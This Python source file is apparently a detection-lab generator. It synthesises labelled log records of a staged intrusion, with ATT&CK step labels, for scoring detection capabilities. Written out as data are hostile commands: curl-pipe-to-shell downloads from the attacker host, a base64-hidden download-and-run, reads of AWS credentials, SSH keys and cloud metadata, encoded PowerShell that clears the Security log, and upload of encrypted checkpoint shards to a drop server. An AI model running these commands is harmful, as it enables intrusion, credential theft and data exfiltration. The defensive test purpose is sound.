"""The incident: what the intruders do, day by day, every record labelled with its step."""

from __future__ import annotations

import base64
from dataclasses import dataclass

from casemate.demo import lab
from casemate.demo.events import (
    Day,
    cloud_call,
    cluster_call,
    command,
    connection,
    later,
    launch,
    never_shipped,
    request,
    ssh_logon,
    windows,
    windows_logon,
)

TOOL_AGENT = "python-requests/2.32.3"


@dataclass(frozen=True)
class Step:
    """One step of the incident as the truth file states it.

    Args:
        label: the label on its records.
        title: what happened.
        technique: ATT&CK technique.
        needs: the capability that is meant to see it (see ``score.NOT_YET``).
    """

    label: str
    title: str
    technique: str
    needs: str


STEPS: tuple[Step, ...] = (
    Step("slow-scan", "three addresses try a few ports a day for months", "T1595.001", "scans"),
    Step("guessing", "passwords of the bastion are guessed over four nights", "T1110.001", "guessing"),
    Step("spraying", "one password is tried for many accounts at the notebook login", "T1110.003", "guessing"),
    Step("exploit", "a kernel is opened on the notebook server without a password", "T1190", "rules"),
    Step("execution", "commands run on the notebook host through that kernel", "T1059.004", "rules"),
    Step("encoded", "a command hidden in base64 is run on the notebook host", "T1027.010", "rules"),
    Step("credentials", "cloud keys are read from the notebook host", "T1552.001", "rules"),
    Step("vendor", "the vendor's account is used at night from a new address", "T1199", "identity behaviour"),
    Step("clearing", "the jump host's security log is cleared from encoded PowerShell", "T1070.001", "rules"),
    Step("lateral", "the storage host and a pod are entered from the notebook host", "T1021.004", "rules"),
    Step("staging", "a checkpoint is packed and read out of the core bucket", "T1560.001", "rules"),
    Step("egress", "the packed checkpoint leaves for a drop server", "T1048", "exfiltration analytics"),
)

GAP = ("missing-logs", "the notebook host's audit log is silent for 31 hours", 100.3, 101.6)
"""Label, title, first and last day (fractions) of the stretch that the attacker removed."""


CLEARED_ON = 96
"""The day on which the security log of the jump host is cleared."""


def attack_day(day: Day, number: int) -> None:
    """Add what the intruders do on day `number` (0-based)."""
    if 3 <= number <= 112:
        _slow_scan(day)
    if 61 <= number <= 64:
        _guessing(day, number)
    if number == 70:
        _spraying(day)
    if number == 84:
        _exploit(day)
    if number == 88:
        _encoded(day)
    if number == CLEARED_ON:
        _clearing(day)
    if 92 <= number <= 97 and number != 95:
        _vendor(day)
    if number == 97:
        _lateral(day)
    if number == 102:
        _staging(day)
    if 103 <= number <= 105:
        _egress(day)


def _slow_scan(day: Day) -> None:
    ports = (
        21,
        22,
        23,
        80,
        111,
        443,
        445,
        1433,
        2375,
        3306,
        3389,
        5432,
        5900,
        6379,
        6443,
        8000,
        8080,
        8888,
        9200,
        27017,
    )
    for source in lab.SLOW_SCANNERS:
        for _ in range(day.random.choice((1, 2, 2, 3))):
            target = f"192.0.2.{day.random.randrange(1, 120)}"
            state = day.random.choice(("S0", "S0", "S0", "REJ"))
            connection(day, day.at(12, 12), source, target, day.random.choice(ports), state=state, label="slow-scan")


def _guessing(day: Day, number: int) -> None:
    names = ("root", "admin", "ubuntu", "git", "jupyter", "postgres", "hadoop", *lab.RESEARCHERS[:8])
    for source in lab.GUESSERS[:3]:
        moment = day.at(1.0 + 0.3 * number % 3, 0.5)
        for _ in range(day.random.randrange(40, 70)):
            name = day.random.choice(names)
            ssh_logon(day, moment, source, name, tries_failed=3, success=False, known_user=name in lab.RESEARCHERS,
                      label="guessing", client="SSH-2.0-libssh2_1.11.0")  # fmt: skip
            moment = later(moment, day.random.uniform(8, 45))


def _spraying(day: Day) -> None:
    moment = day.at(3.0, 0.5)
    for user in (*lab.RESEARCHERS, *lab.ADMINS):
        request(day, moment, lab.GUESSERS[3], "POST", "/hub/login?next=%2Fhub%2F", 403, 2_310, agent=TOOL_AGENT,
                label="spraying")  # fmt: skip
        moment = later(moment, day.random.uniform(3, 20))
        del user  # the access log does not show who was tried


def _exploit(day: Day) -> None:
    moment = day.at(2.3, 0.2)
    for method, target, status in (
        ("GET", "/api", 200),
        ("GET", "/tree?", 200),
        ("GET", "/api/kernelspecs", 200),
        ("POST", "/api/kernels", 201),
        ("GET", "/api/kernels/5f3c/channels?session_id=1", 101),
        ("POST", "/api/terminals", 200),
        ("GET", "/terminals/websocket/1", 101),
        ("GET", "/api/contents/..%2F..%2F..%2Fetc%2Fpasswd", 404),
    ):
        request(day, moment, lab.EXPLOITER, method, target, status, 1_200, agent=TOOL_AGENT, label="exploit")
        moment = later(moment, day.random.uniform(2, 15))
    commands = (
        ["id"],
        ["uname", "-a"],
        ["/bin/sh", "-c", f"curl -fsSL http://{lab.EXPLOITER}/k.sh | sh"],
        ["curl", "-fsSL", f"http://{lab.EXPLOITER}/k.sh"],
        ["chmod", "+x", "/tmp/.k"],
        ["/bin/sh", "-c", "echo Y2htb2QgK3ggL3RtcC8uawo= | base64 -d | sh"],
        ["crontab", "-"],
        ["nohup", "/tmp/.k"],
    )
    for words in commands:
        command(day, moment, words, label="execution")
        moment = later(moment, day.random.uniform(3, 40))
    connection(day, moment, lab.NOTEBOOK.inside, lab.EXPLOITER, 80, service="http", sent=300, received=48_000,
               label="execution")  # fmt: skip
    moment = later(moment, 300)
    for words in (
        ["cat", "/etc/passwd"],
        ["find", "/", "-name", "credentials", "-path", "*.aws*"],
        ["cat", "/srv/notebooks/amara/.aws/credentials"],
        ["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
        ["cat", "/srv/notebooks/bao/.ssh/id_ed25519"],
    ):
        command(day, moment, words, label="credentials")
        moment = later(moment, day.random.uniform(5, 60))
    cloud_call(
        day, later(moment, 600), "pipeline", lab.EXPLOITER, "GetCallerIdentity", service="sts", label="credentials"
    )
    cloud_call(day, later(moment, 640), "pipeline", lab.EXPLOITER, "ListBuckets", label="credentials")


def _encoded(day: Day) -> None:
    """What is run stands in no plain word of the command line."""
    moment = day.at(2.9, 0.4)
    hidden = f"curl -fsSL http://{lab.EXPLOITER}/{day.random.getrandbits(24):06x} | sh"
    text = base64.b64encode(hidden.encode()).decode()
    command(day, moment, ["python3", "-c", f"import base64,os;os.system(base64.b64decode('{text}').decode())"],
            label="encoded")  # fmt: skip
    connection(day, later(moment, 1), lab.NOTEBOOK.inside, lab.EXPLOITER, 80, service="http", sent=280, received=31_000,
               label="encoded")  # fmt: skip


def _clearing(day: Day) -> None:
    """After the night's visit: what was not yet shipped is gone, its numbers are missing."""
    moment = day.at(4.6, 0.3)
    script = base64.b64encode("Stop-Service winlogbeat; wevtutil cl Security".encode("utf-16-le")).decode()
    launch(day, moment, lab.JUMP.name, lab.VENDOR_ACCOUNT,
           rf"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -nop -w hidden -enc {script}",
           r"C:\Windows\System32\cmd.exe", label="clearing")  # fmt: skip
    never_shipped(day, later(moment, 4), lab.JUMP.name, day.random.randrange(60, 400))
    windows(day, later(moment, 5), lab.JUMP.name, 1102,
            {"SubjectUserName": lab.VENDOR_ACCOUNT, "SubjectDomainName": "LARKFIELD", "SubjectLogonId": "0x5be21c"},
            of_log="LogFileCleared", label="clearing")  # fmt: skip


def _vendor(day: Day) -> None:
    moment = day.at(2.6, 0.6)
    ssh_logon(day, moment, lab.VENDOR_INTRUDER, lab.VENDOR_ACCOUNT, tries_failed=0, success=True, method="publickey",
              minutes=45, label="vendor", client="SSH-2.0-OpenSSH_8.9")  # fmt: skip
    windows_logon(day, later(moment, 180), lab.JUMP, lab.VENDOR_ACCOUNT, lab.BASTION.inside, 10, success=True,
                  label="vendor")  # fmt: skip


def _lateral(day: Day) -> None:
    moment = day.at(3.8, 0.1)
    command(day, moment, ["ssh", "-o", "StrictHostKeyChecking=no", "-i", "/tmp/.id", f"root@{lab.STORAGE.inside}"],
            label="lateral")  # fmt: skip
    connection(day, moment, lab.NOTEBOOK.inside, lab.STORAGE.inside, 22, service="ssh", seconds=1_900, sent=90_000,
               received=400_000, label="lateral")  # fmt: skip
    cluster_call(day, later(moment, 400), "system:serviceaccount:training:default", lab.NOTEBOOK.inside, "create", "pods",
                 "train-ivo-7", subresource="exec", code=101, label="lateral")  # fmt: skip
    for secret in ("registry-pull", "wandb-token", "bucket-writer"):
        cluster_call(day, later(moment, 460), "system:serviceaccount:training:default", lab.NOTEBOOK.inside, "get",
                     "secrets", secret, label="lateral")  # fmt: skip


def _staging(day: Day) -> None:
    moment = day.at(1.5, 0.2)
    for shard in range(48):
        key = f"larkfield-9/step-180000/shard-{shard:05d}.safetensors"
        cloud_call(day, later(moment, 20 * shard), "pipeline", lab.NOTEBOOK.outside or "", "GetObject",
                   parameters={"bucketName": lab.CORE_BUCKET, "key": key}, received=4_800_000_000, label="staging")  # fmt: skip
    moment = later(moment, 1_800)
    for words in (
        ["tar", "czf", "/scratch/.cache/w.tgz", "/scratch/.cache/larkfield-9"],
        ["split", "-b", "512m", "/scratch/.cache/w.tgz", "/scratch/.cache/p."],
        [
            "openssl",
            "enc",
            "-aes-256-cbc",
            "-in",
            "/scratch/.cache/p.aa",
            "-out",
            "/scratch/.cache/q.aa",
            "-pass",
            "pass:x",
        ],
    ):
        command(day, moment, words, directory="/scratch/.cache", label="staging")
        moment = later(moment, day.random.uniform(200, 900))


def _egress(day: Day) -> None:
    moment = day.at(2.0, 0.5)
    command(day, moment, ["curl", "-T", "/scratch/.cache/q.aa", f"https://{lab.DROP_SERVER}/u/"], label="egress")
    for _ in range(3):
        connection(day, moment, lab.NOTEBOOK.inside, lab.DROP_SERVER, 443, service="ssl", seconds=5_400,
                   sent=day.random.randrange(20, 40) * 10**9, received=60_000_000, label="egress")  # fmt: skip
        moment = later(moment, 5_600)
